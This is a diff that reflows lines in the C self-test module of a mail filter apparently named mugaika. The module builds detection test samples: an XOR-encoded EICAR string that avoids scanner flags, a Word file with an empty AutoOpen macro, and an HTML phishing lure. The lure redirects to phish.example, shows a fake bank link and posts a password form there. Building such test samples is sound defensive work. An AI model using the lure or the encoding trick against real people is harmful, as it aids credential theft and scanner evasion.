@@ -14,11 +14,10 @@
 
 /* EICAR, each byte XOR 0x20, so that no scanner flags the mugaika binary. */
 static const guint8 eicar_x[] = {
-	0x78, 0x15, 0x6f, 0x01, 0x70, 0x05, 0x60, 0x61, 0x70, 0x7b, 0x14, 0x7c, 0x70, 0x7a, 0x78, 0x15,
-	0x14, 0x08, 0x70, 0x7e, 0x09, 0x17, 0x63, 0x63, 0x09, 0x17, 0x5d, 0x04, 0x65, 0x69, 0x63, 0x61,
-	0x72, 0x0d, 0x73, 0x74, 0x61, 0x6e, 0x64, 0x61, 0x72, 0x64, 0x0d, 0x61, 0x6e, 0x74, 0x69, 0x76,
-	0x69, 0x72, 0x75, 0x73, 0x0d, 0x74, 0x65, 0x73, 0x74, 0x0d, 0x66, 0x69, 0x6c, 0x65, 0x01, 0x04,
-	0x68, 0x0b, 0x68, 0x0a,
+	0x78, 0x15, 0x6f, 0x01, 0x70, 0x05, 0x60, 0x61, 0x70, 0x7b, 0x14, 0x7c, 0x70, 0x7a, 0x78, 0x15, 0x14,
+	0x08, 0x70, 0x7e, 0x09, 0x17, 0x63, 0x63, 0x09, 0x17, 0x5d, 0x04, 0x65, 0x69, 0x63, 0x61, 0x72, 0x0d,
+	0x73, 0x74, 0x61, 0x6e, 0x64, 0x61, 0x72, 0x64, 0x0d, 0x61, 0x6e, 0x74, 0x69, 0x76, 0x69, 0x72, 0x75,
+	0x73, 0x0d, 0x74, 0x65, 0x73, 0x74, 0x0d, 0x66, 0x69, 0x6c, 0x65, 0x01, 0x04, 0x68, 0x0b, 0x68, 0x0a,
 };
 
 GBytes *mg_st_eicar(void)
@@ -54,7 +53,8 @@ static GBytes *zip_build(const struct zentry *e, gsize n, const char *password, 
 		zip_int64_t idx = s ? zip_file_add(z, e[i].name, s, ZIP_FL_ENC_UTF_8) : -1;
 		if (idx < 0 && s)
 			zip_source_free(s);
-		ok = idx >= 0 && (!password || zip_file_set_encryption(z, (zip_uint64_t)idx, ZIP_EM_AES_256, password) == 0);
+		ok = idx >= 0 &&
+		     (!password || zip_file_set_encryption(z, (zip_uint64_t)idx, ZIP_EM_AES_256, password) == 0);
 	}
 	if (!ok || zip_close(z) != 0) {
 		g_set_error(err, G_IO_ERROR, G_IO_ERROR_FAILED, "cannot build a zip: %s",
@@ -109,8 +109,10 @@ GBytes *mg_st_macro_docx(GError **err)
 	static const char vba[] = "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
 				  "Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\nEnd Sub\r\n";
 	const struct zentry e[] = {
-		{"[Content_Types].xml", types, sizeof types - 1}, {"_rels/.rels", rels, sizeof rels - 1},
-		{"word/document.xml", doc, sizeof doc - 1},      {"word/_rels/document.xml.rels", docrels, sizeof docrels - 1},
+		{"[Content_Types].xml", types, sizeof types - 1},
+		{"_rels/.rels", rels, sizeof rels - 1},
+		{"word/document.xml", doc, sizeof doc - 1},
+		{"word/_rels/document.xml.rels", docrels, sizeof docrels - 1},
 		{"word/vbaProject.bin", vba, sizeof vba - 1},
 	};
 	return zip_build(e, G_N_ELEMENTS(e), NULL, err);
@@ -141,10 +143,11 @@ static void base64_lines(GString *g, GBytes *b)
 
 static void headers(GString *g, const struct mg_st_msg *m, const char *subject)
 {
-	g_string_append_printf(g,
-			       "From: <%s>\nTo: <%s>\nSubject: mugaika selftest: %s\nMessage-ID: <%s.%s@selftest.invalid>\n"
-			       "Date: %s\nX-Mugaika-Selftest: %s\nMIME-Version: 1.0\n",
-			       m->from, m->to, subject, subject, m->nonce, m->date, m->nonce);
+	g_string_append_printf(
+		g,
+		"From: <%s>\nTo: <%s>\nSubject: mugaika selftest: %s\nMessage-ID: <%s.%s@selftest.invalid>\n"
+		"Date: %s\nX-Mugaika-Selftest: %s\nMIME-Version: 1.0\n",
+		m->from, m->to, subject, subject, m->nonce, m->date, m->nonce);
 	for (guint i = 0; m->extra && m->extra[i]; i++)
 		g_string_append_printf(g, "%s\n", m->extra[i]);
 }
@@ -154,10 +157,11 @@ char *mg_st_with_attachment(const struct mg_st_msg *m, const char *subject, cons
 {
 	GString *g = g_string_new(NULL);
 	headers(g, m, subject);
-	g_string_append_printf(g, "Content-Type: multipart/mixed; boundary=\"st-%s\"\n\n--st-%s\n"
-				  "Content-Type: text/plain; charset=UTF-8\n\nmugaika selftest (%s)\n\n--st-%s\n"
-				  "Content-Type: %s; name=\"%s\"\nContent-Disposition: attachment; filename=\"%s\"\n"
-				  "Content-Transfer-Encoding: base64\n\n",
+	g_string_append_printf(g,
+			       "Content-Type: multipart/mixed; boundary=\"st-%s\"\n\n--st-%s\n"
+			       "Content-Type: text/plain; charset=UTF-8\n\nmugaika selftest (%s)\n\n--st-%s\n"
+			       "Content-Type: %s; name=\"%s\"\nContent-Disposition: attachment; filename=\"%s\"\n"
+			       "Content-Transfer-Encoding: base64\n\n",
 			       m->nonce, m->nonce, subject, m->nonce, type, name, name);
 	base64_lines(g, data);
 	g_string_append_printf(g, "--st-%s--\n", m->nonce);
@@ -168,11 +172,12 @@ char *mg_st_html_lure(const struct mg_st_msg *m)
 {
 	GString *g = g_string_new(NULL);
 	headers(g, m, "html-lure");
-	g_string_append(g, "Content-Type: text/html; charset=UTF-8\n\n"
-			   "<html><head><script>document.location='http://phish.example/steal'</script></head><body>"
-			   "<p>Your mailbox is full. <a href=\"http://phish.example/login\">https://www.bank.example.jp/"
-			   "</a></p><form action=\"http://phish.example/post\"><input name=\"password\"></form>"
-			   "<img src=\"http://phish.example/track.gif\"></body></html>\n");
+	g_string_append(g,
+			"Content-Type: text/html; charset=UTF-8\n\n"
+			"<html><head><script>document.location='http://phish.example/steal'</script></head><body>"
+			"<p>Your mailbox is full. <a href=\"http://phish.example/login\">https://www.bank.example.jp/"
+			"</a></p><form action=\"http://phish.example/post\"><input name=\"password\"></form>"
+			"<img src=\"http://phish.example/track.gif\"></body></html>\n");
 	return g_string_free(g, FALSE);
 }
 
